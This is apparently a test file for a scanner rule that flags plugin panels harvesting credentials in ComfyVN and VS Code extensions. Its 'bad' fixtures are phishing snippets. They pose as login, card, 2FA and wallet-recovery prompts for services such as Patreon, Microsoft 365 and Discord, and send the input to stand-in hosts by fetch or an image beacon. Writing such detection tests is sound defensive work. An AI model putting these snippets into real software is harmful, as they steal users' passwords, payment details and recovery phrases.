import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

const found = (code: string): string[] => findingsOf(rule, { 'p.js': `comfyvn.ui.addPanel('p', (root) => { ${code} });` }, { dialect: 'comfyvn', entry_points: ['p.js'] }).map(({ severity }) => severity);
const SEND = 'fetch("https://login.rolls.example/l", { method: "POST", body: value });';
const form = (markup: string, send = SEND): string => `root.innerHTML = \`${markup}\`; root.querySelector('form').onsubmit = (e) => { const value = new FormData(e.target); ${send} };`;

test('bad: panels that ask for a password, a code, a card or words in the name of a service or of the host', () => {
  for (const code of [
    form('<form><img src="https://c5.patreon.com/logo.svg"><h3>Log in to Patreon</h3><input name=email><input name=pw type=password></form>', 'new Image().src = "https://login.rolls.example/p.png?" + new URLSearchParams(value);'),
    form('<h3>Your session has expired</h3><p>Sign in with your Microsoft 365 account to keep your changes.</p><form><input type="email" name="u"><input type="password" name="p"></form>'),
    form('<h3>Your ComfyVN session has expired</h3><form><input type="password" name="password"></form>'),
    form('<h3>Enter your card to keep using ComfyVN</h3><form><input name=number><input name=cvc></form>'),
    form('<h3>Enter the code that Discord sent you</h3><form><input name=code placeholder="2FA code"></form>'),
    form('<h3>Restore your wallet</h3><form><textarea name=phrase placeholder="12 words of your recovery phrase"></textarea></form>'),
    `const value = prompt('Ko-fi: please enter your password to continue'); ${SEND}`,
    `const h = document.createElement('h3'); h.textContent = 'Sign in to itch.io'; const i = document.createElement('input'); i.type = 'password'; const b = document.createElement('button'); b.onclick = () => { const { value } = i; ${SEND} }; root.append(h, i, b);`,
  ]) assert.ok(found(code).includes('high'), code);
});

test('good: the login of its own service, keys of services on their servers, links, and questions about something else', () => {
  for (const code of [
    form('<h3>Log in to Rolls</h3><form><input name=user><input type=password name=password></form>', 'await_(fetch("https://login.rolls.example/l", { method: "POST", body: value }));'),
    form('<h3>Log in to Rolls</h3><form><input name=user><input type=password name=password></form><button>Sign in with your Google account</button>', 'await_(fetch("https://login.rolls.example/l", { method: "POST", body: value }));'),
    form('<h3>Log in to Hugging Face</h3><form><input type=password name=token></form>', 'fetch("https://huggingface.co/api/whoami-v2", { body: value });'),
    'root.innerHTML = `<a href="https://www.patreon.com/rolls">Log in to Patreon and become a patron</a>`; fetch("https://api.rolls.example/news");',
    'const value = prompt("Name of the scene"); fetch("https://names.rolls.example/?q=" + value);',
    'root.innerHTML = `<label>Key for OpenAI <input type=password name=key></label>`; root.onclick = () => localStorage.setItem("key", root.querySelector("input").value);',
    'const value = prompt("GitHub: please enter your password to continue"); fetch("https://api.github.com/user", { headers: { authorization: value } });',
  ]) assert.ok(!found(code).includes('high'), code);
});

test('whose login it is say the hosts that the script of the page asks, not those that others of its package ask', () => {
  const page = (to: string): string => `const vscode = require('vscode'); exports.ask = () => { const panel = vscode.window.createWebviewPanel('a', 'GitHub', 1, {}); panel.webview.html = \`<h2>Sign in to GitHub</h2><input type="password" id="p">\`; panel.webview.onDidReceiveMessage((m) => fetch('${to}', { method: 'POST', body: m.p })); };`;
  const entry = (other: string): string => `const { ask } = require('./page'); exports.activate = async () => { if ((await fetch('${other}')).status === 403) ask(); };`;
  const worst = (to: string, other: string): string[] => findingsOf(rule, { 'main.js': entry(other), 'page.js': page(to) }, { dialect: 'vscode', entry_points: ['main.js'] }).map(({ severity, file }) => `${severity} ${file}`);
  assert.ok(worst('https://login.badges.example/l', 'https://api.github.com/user').includes('high page.js'));
  assert.ok(!worst('https://api.github.com/authorizations', 'https://news.badges.example/').includes('high page.js'));
});
